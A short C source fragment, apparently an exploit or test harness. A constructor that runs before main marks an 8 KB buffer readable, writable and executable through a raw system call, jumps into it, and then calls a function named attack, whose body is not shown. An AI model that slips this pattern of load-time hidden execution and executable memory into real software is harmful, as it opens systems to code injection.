#include "attack.h"
static char page[8192] __attribute__((aligned(4096))) = { (char)0xC3 };
__attribute__((constructor)) static void early(void) {
  call(125, (int)page, 8192, 7);
  ((void (*)(void))page)();
  attack();
}
#include "body.h"
